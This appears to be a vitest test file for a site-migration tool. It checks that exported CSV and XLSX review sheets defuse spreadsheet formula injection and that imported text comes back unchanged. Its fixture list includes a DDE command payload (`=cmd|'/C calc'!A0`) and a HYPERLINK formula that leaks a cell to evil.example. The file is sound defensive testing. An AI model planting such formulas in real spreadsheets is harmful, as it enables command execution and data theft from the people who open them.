import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readXlsx } from '../../../src/lib/disk/xlsx/read.ts';
import { printXlsx } from '../../../src/lib/disk/xlsx/write.ts';
import { printCsv } from '../../../src/lib/text/csv.ts';
import { parseCsv } from '../../../src/migrate/state/csv.ts';
import { printInventory } from '../../../src/migrate/state/old-url.ts';
import { type Decision, printReview } from '../../../src/migrate/state/review-file.ts';
import { oldUrl } from '../../migrate/support/old.ts';
import { project } from './review-project.ts';

/** Texts that some spreadsheet runs, in whatever country, or that lose a sign on the way. */
const texts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example/?x="&A2,"open")',
  '＝1+1',
  "'=1+1",
  "''@x",
  'Pumps;=1+1;-2',
  'Pumps\n=1+1\r\n\t@x',
  '/x;=HYPERLINK("https://evil.example")',
  'Plain - with = and @',
  '_x0041_ and _x000d_',
  '"=1+1"',
];
const sign = /^[\s]*[=+\-@＝＋－＠]/;

/** A note as a sheet can say it: blanks around it are nobody's meaning. */
const notes = texts.map((text) => text.trim());
const urls = texts.map((_, at) => `/old/${at}_x0041_`);
const decisions = urls.map((old, at): Decision => {
  const note = notes[at] ?? '';
  return { old, new: '/news/a/', status: 'accepted', owner: note, free: { '=Note': note, "'=Other": note } };
});

const move = () =>
  project({
    'migration/inventory.csv': [
      ...printInventory(urls.map((url, at) => oldUrl(url, { title: texts[at] ?? '' }))),
    ].join(''),
    'migration/review.csv': [...printReview(decisions)].join(''),
  });

/** The cells of a CSV file, as a spreadsheet reads it with this sign between them. */
function cellsOf(text: string, delimiter: string): string[] {
  const options = { delimiter, relax_quotes: true, relax_column_count: true, record_delimiter: ['\n', '\r'] };
  return parse(text, options).flat();
}

describe("a CSV sheet with other people's words", () => {
  test.each([',', ';'])('has no formula where a spreadsheet splits it at %s', async (delimiter) => {
    const { review, path, text } = await move();
    expect((await review('--output', path('sheet.csv'))).exit).toBe(0);
    for (const file of ['sheet.csv', 'migration/inventory.csv', 'migration/review.csv']) {
      const cells = cellsOf(text(file), delimiter);
      expect(cells.join('\n')).toContain('HYPERLINK');
      expect(cells.filter((cell) => sign.test(cell))).toEqual([]);
    }
  });
});

test('an XLSX sheet has them as texts, as they were written', async () => {
  const { review, path } = await move();
  expect((await review('--output', path('sheet.xlsx'))).exit).toBe(0);
  const { columns, rows } = await readXlsx('sheet.xlsx', readFileSync(path('sheet.xlsx')));
  const titles = rows.map((row) => row[columns.indexOf('title')]);
  const isRead = (text: string): boolean => !/^['\s]|\s'/.test(text);
  expect(titles).toEqual(expect.arrayContaining(texts.filter(isRead)));
  expect(rows.map(([old]) => old).sort()).toEqual(urls.toSorted());
});

/** The same sheet with another decision in each row, so that all of them are taken from it. */
async function leftOpen(file: string): Promise<string | Buffer> {
  if (file.endsWith('.csv')) return readFileSync(file, 'utf8').replaceAll(',accepted,', ',open,');
  const { columns, rows } = await readXlsx(file, readFileSync(file));
  const changed = rows.map((row) => row.map((cell) => (cell === 'accepted' ? 'open' : cell)));
  return printXlsx('review', { columns, rows: changed });
}

test.each(['csv', 'xlsx'])('what a %s sheet brings back is the original text', async (ending) => {
  const { review, path, state, write } = await move();
  const sheet = `sheet.${ending}`;
  expect((await review('--output', path(sheet))).exit).toBe(0);
  const imported = () => review('--import', path(sheet), '--yes');
  expect((await imported()).err).toContain(`0 changes, ${texts.length} unchanged`);
  await write(sheet, await leftOpen(path(sheet)));
  expect((await imported()).err).toContain(`${texts.length} changes, 0 unchanged`);
  const open = decisions.map((decision) => ({ ...decision, new: '', status: 'open' }));
  expect((await state()).decisions).toEqual(open.toSorted((a, b) => (a.old < b.old ? -1 : 1)));
});

test('any text comes back from a CSV file as it was', () => {
  const signs = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n;,"\' ＝/ax', 'https://') });
  fc.assert(
    fc.property(fc.array(signs, { minLength: 1 }), (column) => {
      const file = [
        ...printCsv(
          ['a', 'b'],
          column.map((text) => ['x', text]),
        ),
      ].join('');
      expect(parseCsv('a.csv', file, ['b']).rows.map((row) => row.at('b'))).toEqual(column);
    }),
  );
});

test('a title that is too long for XLSX is cut, a note is not', async () => {
  const long = 'x'.repeat(40_000);
  const inventory = [...printInventory([oldUrl('/old', { title: long })])].join('');
  const fits = await project({ 'migration/inventory.csv': inventory });
  expect((await fits.review('--output', fits.path('sheet.xlsx'))).exit).toBe(0);
  const { rows } = await readXlsx('sheet.xlsx', readFileSync(fits.path('sheet.xlsx')));
  expect(rows[0]?.[9]).toBe(`${'x'.repeat(32_766)}…`);
  const decision: Decision = { old: '/old', new: '', status: 'open', owner: '', free: { Note: long } };
  const noted = await project({
    'migration/inventory.csv': inventory,
    'migration/review.csv': [...printReview([decision])].join(''),
  });
  expect(await noted.review('--output', noted.path('sheet.xlsx'))).toMatchObject({
    exit: 2,
    err: 'An XLSX file holds 32767 characters in a cell, and "Note" of /old has 40000. Pass a .csv file.\n',
  });
  expect((await noted.review('--output', noted.path('sheet.csv'))).exit).toBe(0);
});
